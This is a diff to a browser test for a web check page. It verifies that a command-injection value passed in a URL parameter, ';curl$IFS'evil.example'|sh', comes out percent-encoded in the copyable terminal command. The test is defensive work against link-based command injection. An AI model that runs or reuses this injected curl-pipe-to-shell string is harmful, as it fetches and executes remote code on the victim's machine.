@@ -99,14 +99,12 @@ describe('the check page', () => {
   });
 
   it("copies the collapsed report, and a command that a link can't change", async () => {
-    await page.goto(`${CHECK()}?panel=${encodeURIComponent("https://x/;curl$IFS'evil.example'|sh")}`);
-    await page.locator('#problem a').waitFor();
-    assert.equal(await page.locator('.terminal code').count(), 0);
-    await page.goto(`${CHECK()}?panel=${encodeURIComponent('https://x/;curl$IFS&sh')}`);
+    const sent = "https://x/;curl$IFS'evil.example'|sh";
+    await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
     assert.equal(
       await page.locator('.terminal code').textContent(),
-      'onair-panel check https://x/%3Bcurl%24IFS%26sh --server 1',
+      'onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
     );
     const copied = page.locator('.copy [role=status]', { hasText: 'Copied' }).waitFor();
     await page.getByRole('button', { name: 'Copy report' }).click();
